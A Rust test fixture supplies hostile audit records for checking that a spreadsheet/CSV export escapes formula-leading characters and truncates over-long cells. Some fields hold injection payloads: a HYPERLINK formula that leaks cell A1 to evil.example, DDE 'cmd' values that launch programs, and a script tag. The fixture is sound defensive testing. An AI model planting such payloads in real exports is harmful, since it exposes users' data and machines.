//! A hostile data set: every kind of text that has broken a spreadsheet export somewhere, and
//! an independent statement of what each exported cell must read.

#![allow(dead_code)]

use actlog_domain::catalog::{Lang, OPERATIONS, STATUSES};
use actlog_domain::{AuditRecord, KeyValue, OperationDate};
use jiff::tz::TimeZone;

/// Length of the record whose details exceed Excel's cell limit.
pub const LONG_VALUE_CHARS: usize = 40_000;

fn kv(key: &str, value: Option<&str>) -> KeyValue {
    KeyValue {
        key: key.to_owned(),
        value: value.map(str::to_owned),
    }
}

fn at(text: &str) -> OperationDate {
    OperationDate::parse_rfc3339(text).unwrap()
}

fn base(id: &str, date: &str, operation: &str) -> AuditRecord {
    AuditRecord {
        id: id.to_owned(),
        partner_id: "partner-hostile".to_owned(),
        customer_id: Some("7d0a3c1e-5b7e-4e6b-9a52-1c0f2a9d4e11".to_owned()),
        customer_name: Some("Contoso S.p.A.".to_owned()),
        user_principal_name: Some("anna.rossi@partner.example".to_owned()),
        application_id: Some("a0c5e2f1-0000-4000-8000-00000000abcd".to_owned()),
        resource_type: Some("order".to_owned()),
        resource_old_value: None,
        resource_new_value: None,
        operation_type: operation.to_owned(),
        operation_date: at(date),
        operation_status: Some("succeeded".to_owned()),
        customized_data: None,
        session_id: None,
        original_correlation_id: None,
        attributes: Default::default(),
        extensions: Default::default(),
    }
}

/// The records, newest first as the store returns them.
pub fn records() -> Vec<AuditRecord> {
    let mut out = Vec::new();

    let mut r = base(
        "rec-accents",
        "2025-03-31T21:59:59.9999999Z",
        "create_order",
    );
    r.customer_name = Some("Società Caffè \"Il Moro\", S.r.l.".into());
    r.customized_data = Some(vec![
        kv(
            "OfferName",
            Some("Microsoft 365 Business Premium; annuale, però più caro"),
        ),
        kv("Quantity", Some("5")),
    ]);
    r.resource_new_value = Some(
        r#"{"id":"o-1","lineItems":[{"offerId":"CFQ7TTC0LH18","quantity":5,"friendlyName":"Città di Forlì"}]}"#
            .into(),
    );
    r.session_id = Some("sess-1".into());
    r.original_correlation_id = Some("corr-1".into());
    out.push(r);

    let mut r = base(
        "rec-cjk-emoji",
        "2025-03-30T01:30:00.0589308Z",
        "update_subscription",
    );
    r.customer_name = Some("株式会社 東京 🍣 Sushi, Ltd.".into());
    r.user_principal_name = Some("山田太郎@partner.example".into());
    r.resource_type = Some("subscription".into());
    r.resource_old_value = Some(r#"{"quantity":3,"note":"👍 ok"}"#.into());
    r.resource_new_value = Some(r#"{"quantity":7,"note":"数量を変更しました 🎉"}"#.into());
    out.push(r);

    let mut r = base("rec-formula-1", "2025-03-15T12:00:00Z", "add_customer");
    r.customer_name = Some("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click me\")".into());
    r.user_principal_name = Some("+1-555-0100".into());
    r.resource_type = Some("customer".into());
    r.customized_data = Some(vec![
        kv("@SUM(1+1)*cmd|' /C calc'!A0", Some("-5")),
        kv("Formula", Some("=1+2")),
    ]);
    out.push(r);

    let mut r = base(
        "rec-formula-2",
        "2025-03-15T11:00:00Z",
        "update_customer_qualification",
    );
    r.customer_name = Some("-2+3".into());
    r.user_principal_name = Some("@evil".into());
    r.application_id = Some("=cmd|' /C notepad'!'A1'".into());
    r.customer_id = Some("+41".into());
    r.resource_type = Some("customer".into());
    out.push(r);

    let mut r = base("rec-tab-cr", "2025-03-14T08:30:00Z", "create_customer_user");
    r.customer_name = Some("\tTabbed; Name, Inc.".into());
    r.user_principal_name = Some("\r=1+1 cr user".into());
    r.resource_type = Some("customer_user".into());
    r.customized_data = Some(vec![
        kv("Address", Some("Via Roma 1;\n20100 Milano,\tMI\r\nItalia")),
        kv("Quote", Some("He said \"ciao\"; then left, quickly")),
        kv("Lone CR", Some("before\rafter")),
    ]);
    out.push(r);

    let mut r = base("rec-long", "2025-03-13T23:00:00Z", "create_order");
    r.customer_name = Some("Big Order S.p.A.".into());
    let long: String = "àèìòù😀ABCDEFGHIJ,;\"\n"
        .chars()
        .cycle()
        .take(LONG_VALUE_CHARS)
        .collect();
    r.customized_data = Some(vec![kv("Notes", Some(&long))]);
    out.push(r);

    let mut r = base("rec-nulls", "2025-03-12T10:00:00Z", "add_customer");
    r.customer_id = None;
    r.customer_name = None;
    r.user_principal_name = None;
    r.application_id = None;
    r.resource_type = None;
    r.operation_status = None;
    out.push(r);

    let mut r = base("rec-unknown", "2025-03-11T10:00:00Z", "launch_rocket_v2");
    r.resource_type = Some("rocket".into());
    r.operation_status = Some("paused_by_admin".into());
    r.customized_data = Some(vec![kv("", Some("empty key")), kv("Nothing", None)]);
    out.push(r);

    let mut r = base(
        "rec-xml",
        "2025-03-10T10:00:00Z",
        "update_customer_billing_profile",
    );
    r.customer_name = Some("<script>alert('x')</script> & Sons _x000D_ Ltd".into());
    r.user_principal_name = Some(" =1+2 leading space".into());
    r.resource_type = Some("customer".into());
    r.resource_old_value = Some("plain text, not JSON; with \"quotes\" and 'apostrophes'".into());
    r.resource_new_value = Some(String::new());
    r.customized_data = Some(vec![kv("Apostrophe", Some("'already quoted"))]);
    out.push(r);

    let mut r = base(
        "rec-failed",
        "2025-03-09T10:00:00Z",
        "reset_customer_user_password",
    );
    r.customer_name = Some("Ελληνικά Ltd — Ünïcödé GmbH".into());
    r.resource_type = Some("customer_user".into());
    r.operation_status = Some("failed".into());
    out.push(r);

    out
}

/// A record's cells as the export must write them, before neutralization and the length cut,
/// derived from the record independently of the exporter's code.
pub fn expected_cells(record: &AuditRecord, lang: Lang, tz: &TimeZone) -> Vec<String> {
    let local = tz
        .to_datetime(record.operation_date.timestamp())
        .strftime("%Y-%m-%d %H:%M:%S")
        .to_string();
    let text = |v: &Option<String>| v.clone().unwrap_or_default();
    let status = record
        .operation_status
        .as_deref()
        .map_or(String::new(), |s| {
            STATUSES
                .get(s)
                .map_or(s.to_owned(), |e| e.label(lang).to_owned())
        });
    vec![
        local,
        text(&record.customer_name),
        OPERATIONS.label(&record.operation_type, lang).into_owned(),
        text(&record.user_principal_name),
        record.operation_date.to_string(),
        text(&record.customer_id),
        record.operation_type.clone(),
        text(&record.resource_type),
        status,
        text(&record.application_id),
        record.id.clone(),
        expected_details(record, lang),
    ]
}

fn expected_details(record: &AuditRecord, lang: Lang) -> String {
    let it = lang == Lang::It;
    let mut lines = Vec::new();
    for entry in record.customized_data.iter().flatten() {
        let none = if it { "(nessun valore)" } else { "(no value)" };
        lines.push(format!(
            "{}: {}",
            entry.key,
            entry.value.as_deref().unwrap_or(none)
        ));
    }
    let named = [
        (
            if it { "Prima" } else { "Before" },
            &record.resource_old_value,
        ),
        (
            if it { "Dopo" } else { "After" },
            &record.resource_new_value,
        ),
        (
            if it { "ID sessione" } else { "Session ID" },
            &record.session_id,
        ),
        (
            if it {
                "ID correlazione"
            } else {
                "Correlation ID"
            },
            &record.original_correlation_id,
        ),
    ];
    for (label, value) in named {
        if let Some(value) = value {
            lines.push(format!("{label}: {value}"));
        }
    }
    lines.join("\n")
}

/// The text a CSV cell must hold: OWASP's leading characters get an apostrophe.
pub fn with_apostrophe(text: &str) -> String {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{text}")
    } else {
        text.to_owned()
    }
}

/// Asserts that `actual` is the cell of the record's text `original` (after the apostrophe the
/// export put before it, when `apostrophe`: CSV's before a formula), or — when that exceeds
/// Excel's 32,767 UTF-16 units — its beginning followed by the truncation marker, within the
/// limit. The marker counts the characters of `original`: the record's own apostrophes count,
/// the added one does not.
pub fn assert_cell(actual: &str, original: &str, apostrophe: bool, lang: Lang, context: &str) {
    let units = |s: &str| s.encode_utf16().count();
    let expected = if apostrophe {
        format!("'{original}")
    } else {
        original.to_owned()
    };
    if units(&expected) <= 32_767 {
        assert_eq!(actual, expected, "{context}");
        return;
    }
    let total = original.chars().count();
    let marker = match lang {
        Lang::En => format!("… [truncated: {total} characters in total]"),
        Lang::It => format!("… [troncato: {total} caratteri in totale]"),
    };
    assert!(
        units(actual) <= 32_767,
        "{context}: {} units",
        units(actual)
    );
    assert!(units(actual) > 32_000, "{context}: cut far too short");
    let kept = actual
        .strip_suffix(&marker)
        .unwrap_or_else(|| panic!("{context}: no marker {marker:?} at the end"));
    assert!(
        expected.starts_with(kept),
        "{context}: the kept text differs"
    );
}
